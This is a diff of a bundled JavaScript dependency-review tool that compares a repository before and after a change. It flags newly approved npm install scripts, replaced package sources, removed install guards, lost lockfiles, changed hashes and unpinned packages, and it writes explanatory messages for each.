-    after2.policies.filter((policy) => strictness(policy) > strictness(counterpartOf(policy, before2, after2))).map(({ folder }) => folder)
+    after2.policies.flatMap((policy) => {
+      const old = counterpartOf(policy, before2, after2);
+      const isStricter = (installer) => strictness(policy, installer) > (old === void 0 ? 0 : strictness(old, installer));
+      return INSTALLERS.filter(isStricter).map((installer) => `${installer} ${policy.folder}`);
+    })
   );
   if (stricter.size === 0) return after2;
   const packages = after2.packages.map((each) => {
-    return each.ecosystem === "npm" && stricter.has(folderOf4(each.at.path)) ? { ...each, outcome: "runs" } : each;
+    return stricter.has(`${each.manager} ${folderOf5(each.at.path)}`) ? { ...each, outcome: "runs" } : each;
   });
   return inventoryOf(packages);
 }
-function strictness(policy) {
-  return policy === void 0 ? 0 : SCRIPT_POLICIES.indexOf(policy.scripts);
+function strictness({ scripts }, installer) {
+  return SCRIPT_POLICIES.indexOf(scripts[installer]);
 }
 function counterpartOf(policy, before2, after2) {
   const same = before2.policies.find(({ folder }) => folder === policy.folder);
   if (same !== void 0) return same;
   const still = new Set(after2.policies.map(({ folder }) => folder));
   const moved = before2.policies.filter(({ folder }) => !still.has(folder));
-  return moved.find((old) => newSettings(old, policy).length === 0);
-}
-function newSettings(old, { settings: settings2 }) {
-  const known6 = new Set(old?.settings.map(meaningOf2));
-  return settings2.filter((setting10) => setting10.effect !== "less" && !known6.has(meaningOf2(setting10))).map((setting10) => {
-    const message = `${inWords3(setting10)} is new: it decides what installing runs, or where packages come from. Check that this is meant.`;
-    return gapAt(setting10.at, {
-      kind: "not-checked",
-      rests: meaningOf2(setting10),
-      message,
-      ...aboutOf(setting10)
-    });
-  });
-}
-function lostSettings2(old, { settings: settings2, path }) {
-  const said2 = new Set(settings2.map(meaningOf2));
-  const replaced = new Set(
-    settings2.filter(({ effect }) => effect !== "less").map(({ name, from }) => `${from} ${name}`)
-  );
-  const lost2 = (old?.settings ?? []).filter((setting10) => {
-    const isTold = replaced.has(`${setting10.from} ${setting10.name}`);
-    return setting10.effect !== "more" && !said2.has(meaningOf2(setting10)) && !isTold;
-  });
-  return lost2.map((setting10) => {
-    const message = `${inWords3(setting10)} is gone: it decided what installing runs, or where packages come from. Check that this is meant.`;
-    return gapIn(path, { kind: "not-checked", rests: wordsOf("gone", meaningOf2(setting10)), message });
-  });
+  const said2 = (each) => new Set(each.settings.map(meaningOf2));
+  return moved.find((old) => said2(policy).isSubsetOf(said2(old)));
 }
 function lostFlags(old, { installs: installs2, folder, path }) {
   if (old === void 0 || installs2.withScripts <= old.installs.withScripts) return [];
@@ -36000,14 +39000,10 @@ function lostFlags(old, { installs: installs2, folder, path }) {
   const message = `${how} that installed ${code(folder === "" ? "." : folder)} did so with ${code("--ignore-scripts")} until now: install scripts newly run there. Check that this is meant.`;
   return [gapIn(path, { kind: "not-checked", rests: wordsOf("ignore-scripts", folder, installs2), message })];
 }
-function meaningOf2({ name, value, from, effect }) {
-  return wordsOf("setting", from, name, value, effect);
-}
-function inWords3({ written: written6, from }) {
-  return `${code(written6)}${from === "package.json" ? " in package.json" : ""}`;
-}
-function aboutOf({ of: of2 }) {
-  return of2 === null ? {} : { about: [packageKey2({ ecosystem: "npm", name: of2 })] };
+function meaningOf2({ name, value, of: of2, from, effect, decides: decides3 }) {
+  if (decides3 === "approval" && of2 !== null && effect === "more") return wordsOf("approval", of2, value);
+  const where = decides3 === "unknown" || from === "command" ? from : null;
+  return wordsOf("setting", where, name, of2, value, effect);
 }
 
 // src/compare/packages/gaps.ts
@@ -36020,19 +39016,20 @@ function packageGaps(base, head) {
     ...notLookedAt(base, doubted),
     ...newlyStopped(base, head, doubted),
     ...policyGaps(base, head),
-    ...otherHashes(base, head).map((each) => entryGap(each, "hash", OTHER_HASH)),
-    ...unpinned2(base, head).map((each) => entryGap(each, "no hash", NO_HASH)),
+    ...otherKindsOfHashes(otherHashes(base, head)),
+    ...unpinned3(base, head).map((each) => entryGap(each, "no hash", NO_HASH)),
     ...changedEntries(base, head).map((each) => entryGap(each, "declared", OTHER_ENTRY)),
+    ...forgotten(base, head),
     ...takenNames(base, head).map((each) => entryGap(each, "name", otherName(each)))
   ];
 }
 function lostLockfiles(base, head) {
   const cargo = head.isEmpty("cargo") ? pathsOf3(base, "cargo") : [];
   const [before2, after2] = [locksOfNpm(base), locksOfNpm(head)];
-  const still = new Set(after2.map(folderOf4));
-  const pinned2 = new Set(after2.map((path) => `${managerOf(path)} ${folderOf4(path)}`));
+  const still = new Set(after2.map(folderOf5));
+  const pinned2 = new Set(after2.map((path) => `${managerOf(path)} ${folderOf5(path)}`));
   const lost2 = before2.filter((path) => {
-    const folder = folderOf4(path);
+    const folder = folderOf5(path);
     if (after2.length === 0) return true;
     if (!isProject(folder, head)) return false;
     const manager = managerOf(path);
@@ -36047,7 +39044,7 @@ function locksOfNpm(inventory) {
   return [...pathsOf3(inventory, "npm"), ...inventory.unread.map(({ path }) => path)];
 }
 function managerOf(path) {
-  return ANY_OTHER.find((manager) => path.slice(folderOf4(path).length).includes(manager)) ?? "npm";
+  return ANY_OTHER.find((manager) => path.slice(folderOf5(path).length).includes(manager)) ?? "npm";
 }
 var ANY_OTHER = ["pnpm", "yarn", "bun"];
 function installs(manager, folder, { policies }) {
@@ -36060,11 +39057,11 @@ function pathsOf3({ packages }, ecosystem) {
   return [...new Set(packages.filter((each) => each.ecosystem === ecosystem).map((each) => each.at.path))];
 }
 function changedUnread(base, head) {
-  const known6 = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
+  const known7 = new Map(base.unread.map((lockfile) => [lockfile.path, lockfile.id]));
   const still = new Set(head.unread.map(({ path }) => path));
   const gone = new Set(base.unread.filter(({ path }) => !still.has(path)).map(({ id }) => id));
-  return head.unread.filter(({ path, id }) => known6.get(path) !== id && (known6.has(path) || !gone.has(id))).map(({ path, id }) => {
-    const verb = known6.has(path) ? "changed" : "is new";
+  return head.unread.filter(({ path, id }) => known7.get(path) !== id && (known7.has(path) || !gone.has(id))).map(({ path, id }) => {
+    const verb = known7.has(path) ? "changed" : "is new";
     const message = `${code(path)} ${verb}, and this kind of lockfile isn't read yet: compare it by hand.`;
     return gapIn(path, { kind: "unsupported", rests: wordsOf("lockfile", id), message });
   });
@@ -36078,9 +39075,9 @@ function notLookedAt(base, head) {
 }
 function messageFor(group2, { ecosystem, unknown: unknown3 }) {
   const [kind, act] = ecosystem === "cargo" ? ["crate", "building the app"] : ["package", "installing"];
-  const one = group2.length === 1;
-  const what = one ? `1 new or changed ${kind} was` : `${group2.length} new or changed ${kind}s were`;
-  return `${what} not looked at, so it isn't known whether ${act} newly runs ${one ? "its" : "their"} code: ${namesOf3(group2)}. The reason: ${unknown3}.`;
+  const one2 = group2.length === 1;
+  const what = one2 ? `1 new or changed ${kind} was` : `${group2.length} new or changed ${kind}s were`;
+  return `${what} not looked at, so it isn't known whether ${act} newly runs ${one2 ? "its" : "their"} code: ${namesOf3(group2)}. The reason: ${unknown3}.`;
 }
 function newlyStopped(base, head, doubted) {
   if (doubted === head) return [];
@@ -36092,7 +39089,22 @@ function newlyStopped(base, head, doubted) {
     return [gapOf3(each, [each], message)];
   });
 }
-var OTHER_HASH = "is pinned by another kind of hash than before, so it can't be told whether it is the same bytes. Compare both with the registry.";
+function otherKindsOfHashes(all) {
+  return [...Map.groupBy(all, ({ at: at2 }) => at2.path).values()].flatMap((group2) => {
+    const [first] = group2;
+    if (first === void 0) return [];
+    const [is, them] = group2.length === 1 ? ["is", "it is"] : ["are", "they are"];
+    const message = `${namesOf3(group2)} ${is} pinned by another kind of hash than before, so it can't be told whether ${them} the same bytes. Compare both with the registry.`;
+    return [{ ...gapOf3(first, group2, message), line: first.lines.checksum.line }];
+  });
+}
+function forgotten(base, head) {
+  const groups3 = Map.groupBy(forgottenEntries(base, head), ({ at: at2 }) => at2.path);
+  return [...groups3].flatMap(([path, group2]) => {
+    const message = `${code(path)} went back to a format that doesn't copy what packages need, bring along and call their commands, so a later change of that couldn't be seen. Let npm 7 or newer write it anew.`;
+    return group2[0] === void 0 ? [] : [gapOf3(group2[0], group2, message)];
+  });
+}
 var NO_HASH = "is new, and no hash pins it: whoever answers the download decides what it is. Let npm write its hash into the lockfile.";
 var OTHER_ENTRY = "is the same release as before, and its entry says otherwise what it needs, brings along, calls its commands or is made for. Let npm write the lockfile anew.";
 function otherName({ alias }) {
@@ -36115,6 +39127,128 @@ function gapOf3({ at: at2 }, group2, message) {
 }
 function namesOf3(group2) {
   return someOf(group2.map(({ name, version }) => `${name} ${version}`));
+}
+
+// src/compare/packages/install-changes.ts
+function installDifference(before2, after2) {
+  const changes = /* @__PURE__ */ new Map();
+  const gaps = [];
+  for (const policy of after2.policies) {
+    const old = counterpartOf(policy, before2, after2);
+    for (const setting12 of newSettings(old, policy)) {
+      const change = changeFor(setting12, old, policy);
+      if (change === void 0) gaps.push(unknownSetting(setting12));
+      else if (!changes.has(change.identity)) changes.set(change.identity, change);
+    }
+    for (const setting12 of lostGuards2(old, policy)) {
+      const change = guardChange(setting12, policy);
+      if (!changes.has(change.identity)) changes.set(change.identity, change);
+    }
+    gaps.push(...lostSettings2(old, policy));
+  }
+  return { changes: [...changes.values()], gaps };
+}
+function newSettings(old, { settings: settings2 }) {
+  const known7 = new Set(old?.settings.map(meaningOf2));
+  const added = settings2.filter((each) => each.effect !== "less" && !known7.has(meaningOf2(each)));
+  const first = /* @__PURE__ */ new Map();
+  for (const each of added) {
+    const other = first.get(meaningOf2(each));
+    if (other === void 0 || other.from === "lockfile") first.set(meaningOf2(each), each);
+  }
+  return [...first.values()];
+}
+var RULES = {
+  approval: "build/install-script-approved",
+  source: "packages/source-replaced",
+  patch: "packages/source-replaced",
+  code: "build/installer-extended",
+  guard: "packages/install-guard-removed"
+};
+function changeFor(setting12, old, { folder }) {
+  const { decides: decides3, name, of: of2 } = setting12;
+  if (decides3 === "unknown") return void 0;
+  const before2 = old?.settings.find((each) => each.name === name && each.of === of2 && of2 === null);
+  return {
+    domain: "packages",
+    direction: "widened",
+    rule: RULES[decides3],
+    ecosystem: "npm",
+    setting: setting12,
+    before: before2?.written ?? null,
+    folder,
+    at: setting12.at,
+    identity: JSON.stringify(["setting", meaningOf2(setting12)]),
+    witness: witnessFor(setting12, WITNESSES[decides3](setting12))
+  };
+}
+function guardChange(setting12, policy) {
+  const now = policy.settings.find(({ name, effect }) => name === setting12.name && effect !== "less");
+  return {
+    domain: "packages",
+    direction: "widened",
+    rule: "packages/install-guard-removed",
+    ecosystem: "npm",
+    setting: setting12,
+    before: setting12.written,
+    folder: policy.folder,
+    at: now?.at ?? { path: policy.path, line: 1, column: 1, endLine: 1 },
+    identity: JSON.stringify(["guard", setting12.name, setting12.of]),
+    witness: witnessFor(setting12, `no longer held back by ${setting12.written}`)
+  };
+}
+var WITNESSES = {
+  approval: ({ of: of2 }) => `may run the install script of ${of2 ?? "every package"}`,
+  source: ({ written: written6, of: of2 }) => `takes ${of2 ?? "packages"} as ${written6} says`,
+  patch: ({ written: written6, of: of2 }) => `changes ${of2 ?? "packages"} as ${written6} says`,
+  code: ({ written: written6 }) => `runs what ${written6} names`,
+  guard: ({ written: written6 }) => `does what ${written6} says`
+};
+function witnessFor(setting12, what) {
+  const { written: written6, name, value, of: of2 } = setting12;
+  return {
+    kind: "config",
+    platform: "any",
+    written: written6,
+    setting: name,
+    extent: of2 ?? value,
+    text: `${commandFor(setting12)}  # ${what}`
+  };
+}
+function commandFor({ from, at: at2 }) {
+  if (from === "pnpm-workspace.yaml" || at2.path.endsWith("pnpm-lock.yaml")) return "pnpm install";
+  if (from === ".yarnrc.yml" || from === ".yarnrc" || at2.path.endsWith("yarn.lock")) return "yarn install";
+  return from === "bunfig.toml" || at2.path.endsWith("bun.lock") ? "bun install" : "npm ci";
+}
+function unknownSetting(setting12) {
+  const message = `${inWords3(setting12)} is new: it may decide what installing runs, or where packages come from. Check that this is meant.`;
+  return gapAt(setting12.at, { kind: "not-checked", rests: meaningOf2(setting12), message });
+}
+function lostGuards2(old, { settings: settings2 }) {
+  const said2 = new Set(settings2.map(meaningOf2));
+  const isKept = ({ name, value }) => settings2.some(
+    (each) => each.name === name && each.effect === "less" && Number(each.value) >= Number(value)
+  );
+  const isLoosened = ({ name }) => settings2.some((each) => each.name === name && each.effect === "more");
+  return (old?.settings ?? []).filter((each) => {
+    const isGuard3 = each.effect === "less" && each.decides === "guard";
+    return isGuard3 && !said2.has(meaningOf2(each)) && !isKept(each) && !isLoosened(each);
+  });
+}
+function lostSettings2(old, { settings: settings2, path }) {
+  const said2 = new Set(settings2.map(meaningOf2));
+  const replaced = new Set(settings2.filter(({ effect }) => effect !== "less").map(({ name }) => name));
+  const lost2 = (old?.settings ?? []).filter((each) => {
+    const isTold = each.effect === "more" || each.decides === "guard" || each.decides === "patch";
+    return !isTold && !said2.has(meaningOf2(each)) && !replaced.has(each.name);
+  });
+  return lost2.map((setting12) => {
+    const message = `${inWords3(setting12)} is gone: it decided what installing runs, or where packages come from. Check that this is meant.`;
+    return gapIn(path, { kind: "not-checked", rests: wordsOf("gone", meaningOf2(setting12)), message });
+  });
+}
+function inWords3({ written: written6, from }) {
+  return `${code(written6)}${from === "package.json" ? " in package.json" : ""}`;
 }
 
 // src/compare/packages/package-change.ts
@@ -36177,11 +39311,11 @@ function placeOf7({ news: { rule }, package: each, from }) {
 }
 function identityOf6({ news, package: each, all }) {
   const what = news.rule.slice(news.rule.indexOf("/") + 1);
-  const names2 = all.map(({ name, source }) => [name, originOf4(source)]);
+  const names3 = all.map(({ name, source }) => [name, originOf4(source)]);
   const isOfVersion = what === "checksum-changed" || what === "version-withdrawn";
   const bytes = isOfVersion ? [each.version, each.checksum] : [];
   const more = news.rule === "build/install-script-added" ? [news.runs] : [];
-  return JSON.stringify([what, each.ecosystem, names2, ...bytes, ...more]);
+  return JSON.stringify([what, each.ecosystem, names3, ...bytes, ...more]);
 }
 
 // src/compare/packages/standing.ts
@@ -36234,34 +39368,62 @@ function gapOf4(files) {
 function newlyUnpinned(base, head) {
   const pinned2 = new Set(base.flatMap((grant) => grant.kind === "package" ? [packageKey2(grant)] : []));
   const before2 = unpinnedIn(base);
-  const known6 = new Set(before2.map(keyOf6));
+  const known7 = new Set(before2.map(unpinnedKey));
   const hadAny = new Set([...pinned2].map((key) => key.split(" ", 1)[0]));
   for (const { ecosystem } of before2) hadAny.add(ecosystem);
   const locked = /* @__PURE__ */ new Set([...changedLocks(base, head), ...changedLocks(head, base)]);
-  const gaps = unpinnedIn(head).filter((each) => hadAny.has(each.ecosystem) && !pinned2.has(packageKey2(each)) && !known6.has(keyOf6(each))).filter(
-    ({ ecosystem, at: at2 }) => ecosystem === "cargo" || !withAncestors2(folderOf4(at2.path)).some((folder) => locked.has(folder))
-  ).map(gapOf5);
-  return [...new Map(gaps.map((gap3) => [wordsOf(gap3.rests, gap3.path, gap3.line), gap3])).values()];
+  const isTold = ({ ecosystem, at: at2 }) => ecosystem === "npm" && withAncestors2(folderOf5(at2.path)).some((folder) => locked.has(folder));
+  const isNew2 = (each) => {
+    if (known7.has(unpinnedKey(each))) return false;
+    if (each.lock !== null) return true;
+    return hadAny.has(each.ecosystem) && !pinned2.has(packageKey2(each)) && !isTold(each);
+  };
+  const added = unpinnedIn(head).filter(isNew2);
+  return [...Map.groupBy(added, ({ at: at2 }) => at2.path).values()].flatMap(changeOf5);
 }
 function changedLocks(grants, others) {
   const same = new Set(others.flatMap((grant) => grant.kind === "unread-lockfile" ? [grant.id] : []));
   return grants.flatMap(
-    (grant) => grant.kind === "unread-lockfile" && !same.has(grant.id) ? [folderOf4(grant.path)] : []
+    (grant) => grant.kind === "unread-lockfile" && !same.has(grant.id) ? [folderOf5(grant.path)] : []
   );
 }
 function unpinnedIn(grants) {
   return grants.filter((grant) => grant.kind === "unpinned-package");
 }
-function keyOf6({ ecosystem, name, from }) {
-  return JSON.stringify([ecosystem, name, from]);
+function unpinnedKey({ ecosystem, name, from, wanted, lock }) {
+  return JSON.stringify([ecosystem, name, from, lock === null ? null : wanted]);
 }
-var LOCKFILES2 = {
-  cargo: "the Cargo.lock that cargo writes",
-  npm: "the lockfile that your package manager writes"
-};
-function gapOf5({ ecosystem, wanted, from, at: at2 }) {
-  const message = `${code(at2.path)} asks for ${code(wanted)} from ${from}, and no lockfile pins it: each build takes what fits that day. Commit ${LOCKFILES2[ecosystem]}.`;
-  return gapAt(at2, { kind: "not-checked", rests: wordsOf("unpinned", ecosystem, wanted, from), message });
+function changeOf5(all) {
+  const [first] = all;
+  if (first === void 0) return [];
+  const { ecosystem, name, wanted, from, lock, at: at2 } = first;
+  const command = ecosystem === "cargo" ? "cargo build" : "npm install";
+  return [
+    {
+      domain: "packages",
+      direction: "widened",
+      rule: "packages/unpinned",
+      ecosystem,
+      wanted: [...new Set(all.map((each) => each.wanted))],
+      from,
+      lock,
+      at: at2,
+      identity: JSON.stringify([
+        "unpinned",
+        ecosystem,
+        all.map((each) => [each.name, each.wanted, each.from])
+      ]),
+      witness: {
+        kind: "package",
+        platform: "any",
+        ecosystem,
+        name,
+        version: wanted,
+        source: from,
+        text: `${command}  # takes what fits ${wanted} that day`
+      }
+    }
+  ];
 }
 
 // src/compare/packages/comparison.ts
@@ -36269,15 +39431,14 @@ var packageComparison = {
   domain: "packages",
   compare(base, head) {
     const [before2, after2] = [inventoryOf(base ?? []), inventoryOf(head)];
+    const settings2 = installDifference(before2, after2);
     const changes = [
       ...differences(before2, after2).map((each) => changeOf4(each, "widened")),
-      ...taken2(before2, after2).map((each) => changeOf4(each, "narrowed"))
-    ];
-    const gaps = [
-      ...packageGaps(before2, after2),
+      ...taken2(before2, after2).map((each) => changeOf4(each, "narrowed")),
       ...newlyUnpinned(base ?? [], head),
-      ...newlyBuilt(base ?? [], head)
+      ...settings2.changes
     ];
+    const gaps = [...packageGaps(before2, after2), ...settings2.gaps, ...newlyBuilt(base ?? [], head)];
     return { changes, gaps };
   },
   allows: allowsPackage
@@ -36358,8 +39519,8 @@ function outOfWork(after2) {
 
 // src/facts/npm-facts.ts
 function tellingFile(path) {
-  const names2 = path.split("/").slice(1).map(foldedName);
-  const parts = names2.filter((name) => name !== "");
+  const names3 = path.split("/").slice(1).map(foldedName);
+  const parts = names3.filter((name) => name !== "");
   const kind = TELLING5.get(parts.pop() ?? "");
   return kind !== void 0 && isPackageFolder(parts) ? { folder: parts.join("/"), kind } : void 0;
 }
@@ -36376,22 +39537,22 @@ function isPackageFolder(parts) {
   return at2 === parts.length;
 }
 function npmFact(manifests, builds2) {
-  const read7 = new Map([...manifests].map(([folder, text2]) => [folder, scriptsIn2(text2)]));
-  if (read7.get("") === void 0) return void 0;
-  const packages = [...read7].flatMap(([folder, scripts]) => scripts === void 0 ? [] : [folder]);
-  return { packages, running: packages.filter((folder) => builds2.has(folder) || read7.get(folder) === true) };
+  const read9 = new Map([...manifests].map(([folder, text3]) => [folder, scriptsIn2(text3)]));
+  if (read9.get("") === void 0) return void 0;
+  const packages = [...read9].flatMap(([folder, scripts]) => scripts === void 0 ? [] : [folder]);
+  return { packages, running: packages.filter((folder) => builds2.has(folder) || read9.get(folder) === true) };
 }
 var RUN_AT_INSTALL = ["preinstall", "install", "postinstall"];
-function scriptsIn2(text2) {
-  const manifest2 = parsed5(text2.replace(/^\ufeff/, ""));
+function scriptsIn2(text3) {
+  const manifest2 = parsed5(text3.replace(/^\ufeff/, ""));
   if (typeof manifest2 !== "object" || manifest2 === null) return void 0;
   const { scripts } = manifest2;
   if (typeof scripts !== "object" || scripts === null) return false;
   return RUN_AT_INSTALL.some((name) => Boolean(scripts[name]));
 }
-function parsed5(text2) {
+function parsed5(text3) {
   try {
-    return JSON.parse(text2);
+    return JSON.parse(text3);
   } catch {
     return void 0;
   }
@@ -36419,7 +39580,7 @@ var npmPackage = {
   noun: "package",
   holds: "for ever",
   attach(each, answer) {
-    if (isUnknown(answer)) return { ...each, steps: [], unknown: answer.unknown };
+    if (isUnknown(answer)) return { ...each, unknown: answer.unknown };
     return { ...each, ...stepsIn(answer, foldedFolder(each.folderInArchive)) };
   }
 };
@@ -36428,9 +39589,9 @@ function stepsIn({ packages, running }, folder) {
   if (!packages.includes(folder)) return { steps: [], unknown: NOT_INSIDE };
   return { steps: running.includes(folder) ? ["install-script"] : [], unknown: null };
 }
-function factUsed(need, source, asked2 = null) {
+function factUsed(need, source, asked3 = null) {
   const { holds: holds6, noun } = FACT_KINDS[need.kind];
-  const observed = holds6 === "for a time" ? asked2 : null;
+  const observed = holds6 === "for a time" ? asked3 : null;
   return { about: `${noun} ${need.name} ${need.version}`, source, checksum: pinOf2(need), observed };
 }
 function pinOf2(need) {
@@ -36563,6 +39724,35 @@ function callsIn(change) {
 
 // src/words/package-effect.ts
 function packageEffect(change) {
+  switch (change.rule) {
+    case "packages/unpinned":
+      return unpinnedEffect(change);
+    case "build/install-script-approved":
+    case "build/installer-extended":
+    case "packages/source-replaced":
+    case "packages/install-guard-removed":
+      return settingEffect(change);
+    default:
+      return releaseEffect(change);
+  }
+}
+function settingEffect({ rule, setting: setting12, before: before2 }) {
+  const { of: of2, written: written6 } = setting12;
+  const [subject, action] = [of2 === null ? "installing packages" : `the package ${code(of2)}`, ACTIONS[rule]];
+  if (rule === "packages/install-guard-removed")
+    return { subject, action, base: `${code(written6)} holds it back`, head: "nothing of the kind is set" };
+  return { subject, action, base: before2 === null ? "nothing sets it" : code(before2), head: code(written6) };
+}
+function unpinnedEffect({ wanted, from }) {
+  const names3 = someOf(wanted);
+  return {
+    subject: wanted.length === 1 ? `the publisher of ${names3}` : `the publishers of ${names3}`,
+    action: ACTIONS["packages/unpinned"],
+    base: `nothing asks for ${names3} unpinned`,
+    head: `each build takes ${names3} from ${from} as it is that day`
+  };
+}
+function releaseEffect(change) {
   const [before2, after2] = [wordsBefore(change), wordsAfter(change)];
   return {
     subject: subjectOf2(change),
@@ -36580,7 +39770,12 @@ var ACTIONS = {
   "packages/checksum-changed": "be built into the app in place of the bytes that base pins",
   "packages/version-withdrawn": "put code into the app that its registry has taken back",
   "packages/plugin-added": "add commands that pages may call",
-  "packages/package-added": "put code into the app"
+  "packages/package-added": "put code into the app",
+  "build/install-script-approved": "run an install script on the machine that builds the app",
+  "build/installer-extended": "run code of another kind than packages' own scripts",
+  "packages/source-replaced": "take code from somewhere else",
+  "packages/install-guard-removed": "take what was held back before",
+  "packages/unpinned": "put new code into the app without any change of this repository"
 };
 function subjectOf2({ ecosystem, name, version, packages }) {
   const kind = kindOfPackage(ecosystem);
@@ -36601,25 +39796,25 @@ function wordsBefore(change) {
 }
 function wordsAfter(change) {
   const { packages, ecosystem, owners } = change;
-  const names2 = someOf(packages);
+  const names3 = someOf(packages);
   switch (change.rule) {
     case "build/build-script-added":
-      return `building the app runs the build script of ${names2}`;
+      return `building the app runs the build script of ${names3}`;
     case "build/proc-macro-added":
-      return `the compiler loads and runs ${names2}`;
+      return `the compiler loads and runs ${names3}`;
     case "build/install-script-added":
-      return change.runs ? `installing runs the script of ${names2}` : `the script of ${names2} waits for approval`;
+      return change.runs ? `installing runs the script of ${names3}` : `the script of ${names3} waits for approval`;
     case "packages/links-added":
-      return `${names2} links ${code(change.links)}`;
+      return `${names3} links ${code(change.links)}`;
     case "packages/source-changed":
-      return `${names2} ${packages.length === 1 ? "comes" : "come"} from ${owners === 1 ? sourceInWords(change.source, ecosystem) : `${owners} sources`}`;
+      return `${names3} ${packages.length === 1 ? "comes" : "come"} from ${owners === 1 ? sourceInWords(change.source, ecosystem) : `${owners} sources`}`;
     case "packages/checksum-changed":
-      if (change.checksum === null) return `no hash pins ${names2}`;
-      return `${names2} is the bytes that ${code(change.checksum)} names`;
+      if (change.checksum === null) return `no hash pins ${names3}`;
+      return `${names3} is the bytes that ${code(change.checksum)} names`;
     case "packages/version-withdrawn":
-      return `the lockfile pins ${names2}, which the registry ${change.listing === "yanked" ? "has yanked" : "doesn't list"}`;
+      return `the lockfile pins ${names3}, which the registry ${change.listing === "yanked" ? "has yanked" : "doesn't list"}`;
     default:
-      return `${names2} ${packages.length === 1 ? "is" : "are"} built into the app`;
+      return `${names3} ${packages.length === 1 ? "is" : "are"} built into the app`;
   }
 }
 
@@ -36756,19 +39951,19 @@ function isGuard2(grant) {
   return grant.domain === "config" && grant.kind === "guard";
 }
 function isAlike2(base, head, condition) {
-  const said2 = ({ grants }) => wordsOf(grants.filter((grant) => isSame5(conditionOf2(grant), condition)));
+  const said2 = ({ grants }) => wordsOf(grants.filter((grant) => isSame6(conditionOf2(grant), condition)));
   return condition.kind === "reach" && base !== null && said2(base) === said2(head);
 }
 function nameOf8({ kind, name }) {
   return `${kind} ${name}`;
 }
-function isSame5(a3, b5) {
+function isSame6(a3, b5) {
   return a3?.kind === b5?.kind && a3?.name === b5?.name;
 }
 function heldBy2(surface, condition) {
   const isHeld2 = (grant) => {
     const only = conditionOf2(grant);
-    return only === null || isSame5(only, condition);
+    return only === null || isSame6(only, condition);
   };
   return { ...surface, grants: surface.grants.filter(isHeld2) };
 }
@@ -36784,7 +39979,7 @@ function buildOf3({ kind, name }) {
 }
 
 // src/engine/review-app.ts
-function needsOf({ builds: [build] }) {
+function needsOf2({ builds: [build] }) {
   if (build === void 0) return [];
   return appReaders.flatMap((reader) => reader.needs?.(build.base, build.head) ?? []);
 }
@@ -36844,32 +40039,32 @@ function heldBefore({ isUnchanged }, { grants }) {
 function mendedOf({ files, location }, unread4, after2) {
   return mended(unread4.difference(unreadFiles(after2)), files, location);
 }
-function readableBuilds(app, known6) {
-  const builds2 = app.builds.map((build) => readBuild(build, known6));
+function readableBuilds(app, known7) {
+  const builds2 = app.builds.map((build) => readBuild(build, known7));
   const before2 = distinct5([...app.unread.base, ...builds2.flatMap(({ base }) => base?.gaps ?? [])]);
   const after2 = distinct5([...app.unread.head, ...builds2.flatMap(({ head }) => head.gaps)]);
   const [unread4, unreadOfHead] = [unreadFiles(before2), unreadFiles(after2)];
   if (unread4.size === 0 && unreadOfHead.size === 0) return { builds: builds2, before: before2, after: after2, unread: unread4 };
   const readable2 = app.of(withStandIns(app.files, unread4, unreadOfHead));
-  return { builds: readable2.map((build) => readBuild(build, known6)), before: before2, after: after2, unread: unread4 };
+  return { builds: readable2.map((build) => readBuild(build, known7)), before: before2, after: after2, unread: unread4 };
 }
 function knownOf(app, facts) {
-  return { facts, interfaces: interfacesIn(needsOf(app), facts) };
+  return { facts, interfaces: interfacesIn(needsOf2(app), facts) };
 }
 function readBuild({ build, base, head }, { facts, interfaces }) {
-  const surfaceOf = (bare) => {
+  const surfaceOf2 = (bare) => {
     const project = interfaces.size === 0 ? bare : { ...bare, interfaces };
-    const asked2 = appReaders.filter((reader) => build === null || reader.layered);
-    const surfaces = asked2.map((reader) => reader.read(project));
+    const asked3 = appReaders.filter((reader) => build === null || reader.layered);
+    const surfaces2 = asked3.map((reader) => reader.read(project));
     return {
       grants: enriched(
-        surfaces.flatMap(({ grants }) => grants),
+        surfaces2.flatMap(({ grants }) => grants),
         facts
       ),
-      gaps: [...project.gaps, ...surfaces.flatMap(({ gaps }) => gaps)]
+      gaps: [...project.gaps, ...surfaces2.flatMap(({ gaps }) => gaps)]
     };
   };
-  return { build, base: base === null ? null : surfaceOf(base), head: surfaceOf(head) };
+  return { build, base: base === null ? null : surfaceOf2(base), head: surfaceOf2(head) };
 }
 function beforeOnly(before2, after2) {
   const still = new Set(after2.map(({ path, kind }) => `${kind}\0${path}`));
@@ -36902,8 +40097,8 @@ var NO_APP = { root: "", config: "" };
 async function reviewRepository(readers2, sides, changed, work) {
   const wants = (path) => readers2.some(({ files }) => files.some((kind) => kind.wants(path, NO_APP)));
   if (![...changed].some(wants)) return { findings: [], narrowings: [], gaps: [] };
-  const read7 = await readWanted(sides, wants);
-  const [before2, after2] = [surfaceOf("base"), surfaceOf("head")];
+  const read9 = await readWanted(sides, wants);
+  const [before2, after2] = [surfaceOf2("base"), surfaceOf2("head")];
   const [granted, grants] = [byDomain(before2.grants), byDomain(after2.grants)];
   const { changes, gaps, unread: unread4 } = compareSurfaces(granted, grants, work);
   const judged = judge(null, changes, granted, grants, work);
@@ -36914,12 +40109,12 @@ async function reviewRepository(readers2, sides, changed, work) {
       ...[...gaps, ...judged.gaps].map((gap3) => ({ ...gap3, since: "head" }))
     ]
   };
-  function surfaceOf(side) {
-    const repository = { files: read7[side].files, contents: sides[side].contents };
-    const surfaces = readers2.map((reader) => reader.read(repository));
+  function surfaceOf2(side) {
+    const repository = { files: read9[side].files, contents: sides[side].contents };
+    const surfaces2 = readers2.map((reader) => reader.read(repository));
     return {
-      grants: surfaces.flatMap((surface) => surface.grants),
-      gaps: [...read7[side].gaps, ...surfaces.flatMap((surface) => surface.gaps)]
+      grants: surfaces2.flatMap((surface) => surface.grants),
+      gaps: [...read9[side].gaps, ...surfaces2.flatMap((surface) => surface.gaps)]
     };
   }
 }
@@ -36966,12 +40161,12 @@ async function reviewTrees({
   const files = await gather(there, here, looked, paths3);
   const sides = { base: there, head: here };
   const apps = files.touched.flatMap((pair) => appUnderReview(pair, files.base, files.head, sides) ?? []);
-  const needs = apps.flatMap(needsOf);
+  const needs = apps.flatMap(needsOf2);
   if (needs.length > 0) progress(`Looking up ${needs.length} packages`);
-  const known6 = await facts.fetch(needs);
+  const known7 = await facts.fetch(needs);
   progress("Comparing");
   const attributes2 = attributeGaps(files.base.files, files.head.files, work);
-  const ofApps = withoutRepetition3(apps.map((app) => ({ app, reviewed: reviewApp(app, known6, work) })));
+  const ofApps = withoutRepetition3(apps.map((app) => ({ app, reviewed: reviewApp(app, known7, work) })));
   const judged = [...ofApps, await reviewRepository(repositoryReaders, sides, paths3, work)];
